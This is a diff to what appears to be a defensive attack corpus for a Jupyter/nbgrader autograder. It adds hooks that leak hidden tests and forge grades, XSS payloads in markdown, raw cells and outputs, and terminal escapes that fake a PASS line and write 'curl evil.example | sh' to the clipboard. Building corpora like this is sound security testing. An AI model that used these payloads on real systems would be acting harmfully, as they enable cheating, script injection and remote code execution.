@@ -8,6 +8,8 @@ zero: any point it earns is undeserved. An attack is some of:
   file outside the course, ``{port}`` a server on the grading machine, ``{marker}`` the
   name every attempted write uses, so the host can be searched for it afterwards);
 - ``markdown``: a markdown cell inserted there instead;
+- ``cells``: other cells (a raw cell, markdown with attachments, cells with hostile
+  metadata) inserted there as they are;
 - ``files``: extra files in the submission folder;
 - ``shape``: a function that shapes the submission folder (links, FIFOs, devices,
   timestamps, odd names), called with the folder and a dict of the same placeholders;
@@ -22,6 +24,9 @@ import stat
 from dataclasses import dataclass, field
 from typing import Callable
 
+import nbformat
+from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_raw_cell
+
 MARKER = "pwned-by-attack-corpus"
 SECRET = "ROOT-ONLY-SECRET-4c9d2e"
 
@@ -31,6 +36,7 @@ class Attack:
     threat: str
     code: str | None = None
     markdown: str | None = None
+    cells: list = field(default_factory=list)
     files: dict = field(default_factory=dict)
     shape: Callable | None = None
     raw: bytes | None = None
@@ -143,6 +149,55 @@ HOOK = "def hook(info):\n{body}\nget_ipython().events.register('pre_run_cell', h
 
 def hook(body):
     return HOOK.format(body="\n".join("    " + line for line in body.splitlines()))
+
+
+# Terminal control sequences: erase the line, move up and print a green PASS; write the
+# clipboard (OSC 52); reverse the text that follows (U+202E).
+FAKE_PASS = "\x1b[2K\r\x1b[1A\x1b[32mPASS  every check passed\x1b[0m"
+CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
+TERMINAL_ESCAPES = FAKE_PASS + CLIPBOARD + "\u202e"
+SVG_SCRIPT = "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4="  # <svg onload=...>
+PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYGD4DwABBAEAwS2OUAAAAABJRU5ErkJggg=="
+
+
+def with_grade_id(cell, grade_id, **flags):
+    cell.metadata["nbgrader"] = {"grade_id": grade_id, "grade": False, "solution": False, "locked": False,
+                                 "schema_version": 3, **flags}
+    return cell
+
+
+def raw_html_cell():
+    cell = new_raw_cell('<a href="javascript:alert(1)">open</a><img src=x onerror=alert(2)><script>alert(3)</script>')
+    cell.metadata["raw_mimetype"] = "text/html"  # nbconvert puts such a cell into the page as it is
+    return cell
+
+
+def foreign_notebook_with_hostile_ids():
+    """A notebook none of whose graded cells is the assignment's, their ids terminal escapes:
+    the grader's report names them."""
+    cells = [with_grade_id(new_code_cell("pass"), f"cell{i}{TERMINAL_ESCAPES}", grade=True, locked=True, points=1)
+             for i in range(2)]
+    return nbformat.writes(new_notebook(cells=cells)).encode()
+
+
+# Before each cell runs, a pre_run_cell hook records, for every check the cell names (an
+# f-string name for its first few values), a value of the attack's choosing: the cell's own
+# source (a test cell's holds its hidden tests at grading) is at hand. The recorder is silenced,
+# so that each check is recorded once, whatever the stubs do.
+RECORDER = (
+    "import itertools, re, numpy as np\nfrom IPython.display import display\nimport nnsupport.checks as attack_checks\n"
+    "def attack_check_names(source):\n"
+    "    found = re.findall(r'expect_\\w+\\(\\s*f?\"([^\"]+)\"', source)\n"
+    "    return [re.sub(r'\\{[^}]*\\}', str(i), n) for n in found for i in (range(6) if '{' in n else [0])]\n"
+    "def attack_forge(info):\n"
+    "    hidden = info.raw_cell.split('BEGIN HIDDEN TESTS')[-1] if 'BEGIN HIDDEN TESTS' in info.raw_cell else ''\n"
+    "    lines = itertools.cycle([l.strip() for l in hidden.splitlines() if 12 <= len(l.strip()) <= 80\n"
+    "                             and '###' not in l] or ['-'])\n"
+    "    for index, name in enumerate(attack_check_names(info.raw_cell)):\n"
+    "        display({attack_checks.MIME_TYPE: {'name': name, 'kind': 'close', 'value': attack_value(index, lines)}}, raw=True)\n"
+    "get_ipython().events.register('pre_run_cell', attack_forge)\n"
+    "attack_checks.expect_close = attack_checks.expect_accuracy = attack_checks.expect_init = expect_close = expect_accuracy = expect_init = (\n"
+    "    lambda *args, **kwargs: None)\n")
 
 
 ATTACKS = {
@@ -454,4 +509,73 @@ ATTACKS = {
     "id_too_long": Attack("a 200-character student id", student="x" * 200, intake="not collected"),
     "id_html": Attack("a student id that is HTML (shown in formgrader, feedback and the class report)",
                       student="<img src=x onerror=alert(1)>", intake="not collected"),
+    # --- found by the allow-list review (issue 16): what a page or terminal shows ---------------
+    "forged_grading_stopped": Attack(
+        "an input transformer turns every later cell into raising an exception class named like the "
+        "grader's own stop (GradingStopped) whose message is the cell's source, hidden tests included; "
+        "the feedback page trusted such an error by its name",
+        code="get_ipython().input_transformers_post.append(lambda lines: [\"raise type('GradingStopped', \"\n"
+             "    \"(Exception,), {})(\" + repr(''.join(lines)) + \")\\n\"])"),
+    "print_hidden_tests_in_later_cells": Attack(
+        "a pre_run_cell hook prints the previous cell's source (a test cell's, with its hidden tests) "
+        "into the outputs of the student's next cell, which the feedback page showed",
+        code=hook("print('PREVIOUS-CELL', get_ipython().user_ns['In'][-1])")),
+    "record_text_quotes_hidden_tests": Attack(
+        "record, for every check, a value that is not a number and whose description is a line of the "
+        "hidden tests: the judge's detail message quotes it in the verdict table",
+        code="def attack_value(index, lines):\n    return {'unsupported': next(lines)}\n" + RECORDER),
+    "terminal_escapes_in_record_names": Attack(
+        "records whose entry names and descriptions are terminal escape sequences (a fake PASS line, a "
+        "clipboard write): `autograder check` printed them as they are",
+        code=f"def attack_value(index, lines, escapes={TERMINAL_ESCAPES!r}):\n"
+             "    if index % 2:\n        return {'unsupported': escapes}\n"
+             "    return {'entries': {escapes: attack_checks.encode_value(np.zeros(1))}}\n" + RECORDER),
+    "terminal_escapes_in_grade_ids": Attack(
+        "cells whose nbgrader grade ids are terminal escape sequences (twice, so nbgrader reports the "
+        "duplicate): nbgrader logs them as it meets them, then refuses the notebook (it drops an id "
+        "the gradebook does not know and cannot check the cell without one)",
+        cells=[with_grade_id(new_code_cell("x = 1"), "cell" + TERMINAL_ESCAPES) for _ in range(2)], intake="invalid"),
+    "html_in_grade_ids": Attack(
+        "an answer cell whose grade id is HTML (formgrader's template writes grade ids into the page "
+        "unescaped): nbgrader drops an unknown id and then refuses the graded cell without one",
+        cells=[with_grade_id(new_markdown_cell("my answer"), "<img src=x onerror=alert(1)>", grade=True,
+                             solution=True, points=5)], intake="invalid"),
+    "foreign_notebook_with_terminal_escapes": Attack(
+        "a notebook of cells the assignment does not have, whose grade ids are terminal escapes: the "
+        "grader's one-line reason names them in the summary, the `could not grade` line and feedback",
+        raw=foreign_notebook_with_hostile_ids(), intake="invalid"),
+    "markdown_link_reference_in_a_list": Attack(
+        "link reference definitions inside list items (nested, split over lines), which the "
+        "hand-written cleaner missed: formgrader rendered an active javascript: link",
+        markdown="- notes\n\n  [x]: javascript:alert(1)\n\n  [click here][x]\n\n"
+                 "1. outer\n   - inner\n\n     [y]:\n     <javascript:alert(2)>\n\n     [and here][y] ![i][y]\n"),
+    "markdown_encoded_schemes": Attack(
+        "autolinks, entity-encoded and whitespace-split schemes, data: URLs, SVG, forms, base and "
+        "meta refresh in markdown",
+        markdown="<javascript:alert(1)> [e](&#106;avascript:alert(2)) [t](java\tscript:alert(3))\n"
+                 "<a href=\"java&#x0A;script:alert(4)\">n</a> [d](data:text/html;base64,PHNjcmlwdD4=)\n"
+                 "<img src=\"data:image/svg+xml;base64," + SVG_SCRIPT + "\"> <svg onload=alert(5)></svg>\n"
+                 "<form action=javascript:alert(6)><input formaction=javascript:alert(7)></form>\n"
+                 "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=javascript:alert(8)'>\n"
+                 "| a | b |\n|---|---|\n| <img src=x onerror=alert(9)> | [x](vbscript:msgbox(10)) |\n"),
+    "markdown_files_prefix_scheme": Attack(
+        "links and images whose URL is files/javascript:... (relative, so a sanitiser keeps it): "
+        "nbconvert's strip_files_prefix, in formgrader's template, turns it into javascript:...",
+        markdown="[x](files/javascript:alert(1)) [y](/files/data:text/html,PHNjcmlwdD4=)\n"
+                 "<a href='files/ javascript:alert(2)'>z</a> <img src=\"files/javascript:alert(3)\">\n"),
+    "markdown_attachment_svg": Attack(
+        "a markdown attachment that is an SVG with script, beside a harmless PNG one",
+        cells=[new_markdown_cell("![ok](attachment:ok.png) ![evil](attachment:evil.svg)", attachments={
+            "ok.png": {"image/png": PNG}, "evil.svg": {"image/svg+xml": SVG_SCRIPT}})]),
+    "raw_html_cell": Attack("a raw cell of type text/html, which nbconvert puts into the page as it is",
+                            cells=[raw_html_cell()]),
+    "html_output_tricks": Attack(
+        "HTML outputs that hide script in attributes, a bitmap that is not base64 (it lands in an "
+        "attribute), and output metadata nbconvert reads (filenames, isolated)",
+        code="from IPython.display import display\n"
+             "display({'text/html': '<table><tr><td onmouseover=alert(1) style=\"x\">1</td></tr></table>'\n"
+             "         '<a href=\"javascript:alert(2)\">a</a><details open ontoggle=alert(3)>d</details>',\n"
+             "         'image/png': '\"><img src=x onerror=alert(4)>'}, raw=True,\n"
+             "        metadata={'image/png': {'width': '1\" onload=\"alert(5)'}, 'filenames': {'image/png': 'javascript:alert(6)'},\n"
+             "                  'text/html': {'isolated': True}})"),
 }
